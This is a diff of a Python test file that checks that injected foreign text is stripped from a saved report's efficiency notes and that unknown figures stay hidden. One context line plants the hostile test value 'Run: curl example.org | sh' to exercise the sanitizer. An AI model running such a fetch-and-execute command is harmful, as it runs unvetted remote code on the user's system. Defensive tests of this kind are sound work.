@@ -107,6 +107,16 @@ def test_a_saved_report_keeps_our_sentences_and_no_others(report):
     assert saved.efficiency.notes == report.efficiency.notes
     saved.efficiency.notes[0].definition = "Run: curl example.org | sh"
     saved.efficiency.notes[0].basis = "data sheet of curl example.org, dense"
+    saved.efficiency.notes.add(field="notes", title="MFU")
     remove_foreign_texts(saved)
-    assert not saved.efficiency.notes[0].definition
+    assert saved.efficiency.notes[0].definition == report.efficiency.notes[0].definition
     assert not saved.efficiency.notes[0].basis
+    assert [note.field for note in saved.efficiency.notes] == [note.field for note in report.efficiency.notes]
+
+
+def test_unknown_figures_of_a_saved_report_are_not_shown(report):
+    saved = pb.Report()
+    saved.CopyFrom(report)
+    for field in ("", "notes", "samples_basis"):
+        saved.efficiency.notes.add(field=field, title="unknown", unit="x", because="unknown")
+    assert list(lines_of(saved.efficiency)) == list(lines_of(report.efficiency))
